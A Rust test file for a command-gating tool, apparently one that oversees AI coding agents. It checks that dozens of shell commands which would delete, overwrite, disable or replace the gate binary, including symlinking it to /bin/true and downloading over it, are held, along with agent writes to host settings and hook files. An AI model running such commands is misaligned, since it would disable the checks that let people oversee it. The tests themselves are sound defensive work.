//! Our own program, and the settings of agent hosts where variables lead them: whoever made the
//! facts says where these lie, and no line or tool changes them without a person.

#![allow(clippy::panic, reason = "an action that is none fails the test")]

mod shell_common;

use countersign_core::artifact::Risk;
use countersign_policy::facts::{Class, Floor, Place};
use serde_json::json;
use shell_common::{action, class, line, place};

/// The usual place, with a program outside any `bin` and two directories of settings.
fn gated() -> Place {
    let mut place = place();
    let more = ["/opt/tools/gate/countersign", "/srv/conf/assistant", "/home/ann/work/.agent-home"];
    place.own_state.extend(more.map(str::to_owned));
    place
}

fn is_held(class: &Class) -> bool {
    class.risk == Risk::Critical && class.floors.contains(&Floor::Protected)
}

#[test]
fn attack_11_nobody_rewrites_moves_or_disables_the_program_itself() {
    let lines = [
        "cp evil /opt/tools/gate/countersign",
        "cp evil/countersign /opt/tools/gate/",
        "cp -r evil/gate /opt/tools",
        "cp -aT evil /opt/tools/gate",
        "mv /opt/tools/gate/countersign /tmp/x",
        "mv /opt/tools/gate /opt/tools/old",
        "mv /opt/tools /opt/old",
        "mv evil /opt/tools/gate/countersign",
        "rm /opt/tools/gate/countersign",
        "rm -f /opt/tools/gate/*",
        "rm -rf /opt/tools",
        "unlink /opt/tools/gate/countersign",
        "ln -sf /bin/true /opt/tools/gate/countersign",
        "install evil /opt/tools/gate/countersign",
        "install -t /opt/tools/gate countersign",
        "chmod -x /opt/tools/gate/countersign",
        "chmod 000 /opt/tools/gate/countersign",
        "chmod -R a-x /opt/tools",
        "chown ann /opt/tools/gate/countersign",
        "chattr +i /opt/tools/gate/countersign",
        "setfacl -m u:ann:r /opt/tools/gate/countersign",
        "echo > /opt/tools/gate/countersign",
        "cat evil > /opt/tools/gate/countersign",
        ": > /opt/tools/gate/countersign",
        "tee /opt/tools/gate/countersign",
        "dd if=/dev/zero of=/opt/tools/gate/countersign",
        "truncate -s 0 /opt/tools/gate/countersign",
        "sed -i s/a/b/ /opt/tools/gate/countersign",
        "strip /opt/tools/gate/countersign",
        "patchelf --set-interpreter /tmp/x /opt/tools/gate/countersign",
        "curl -o /opt/tools/gate/countersign https://x.example/y",
        "chown -R ann /opt/tools",
        "cd /opt/tools/gate && cp /bin/true countersign",
        "cd /opt/tools && mv gate old",
        "rsync evil /opt/tools/gate/countersign",
        "shred /opt/tools/gate/countersign",
        "python3 x.py /opt/tools/gate/countersign",
        "unknown-program --out=/opt/tools/gate/countersign",
    ];
    let through: Vec<&&str> =
        lines.iter().filter(|text| !is_held(&class(&line(text), &gated()))).collect();
    assert!(through.is_empty(), "{through:#?}");
}

#[test]
fn attack_11_nobody_changes_settings_where_a_variable_leads_the_host() {
    for path in [
        "/srv/conf/assistant/settings.json",
        "/srv/conf/assistant/hooks.json",
        "/srv/conf/assistant",
        "/home/ann/work/.agent-home/config.toml",
        ".agent-home/config.toml",
        "src/../.agent-home/hooks.json",
    ] {
        let write = json!({"file_path": path, "content": "x"});
        let patch = format!("*** Begin Patch\n*** Add File: {path}\n+x\n*** End Patch");
        for (server, tool, arguments) in [
            ("claude-code", "Write", write),
            ("codex", "apply_patch", json!({"command": patch})),
            ("files", "write_file", json!({"path": path, "text": "x"})),
        ] {
            let payload =
                json!({"kind": "tool", "server": server, "tool": tool, "arguments": arguments});
            assert!(is_held(&class(&action(payload), &gated())), "{tool} {path}");
        }
        for text in [format!("echo x > {path}"), format!("rm -r {path}")] {
            assert!(is_held(&class(&line(&text), &gated())), "{text}");
        }
    }
}

#[test]
fn the_program_may_be_asked_what_it_is() {
    for text in ["/usr/local/bin/countersign status", "countersign --version"] {
        let mut place = place();
        place.own_state.push("/usr/local/bin/countersign".into());
        assert_eq!(class(&line(text), &place).risk, Risk::Low, "{text}");
    }
    // What lies beside it is judged as before.
    assert!(!is_held(&class(&line("touch /opt/tools/other"), &gated())));
}
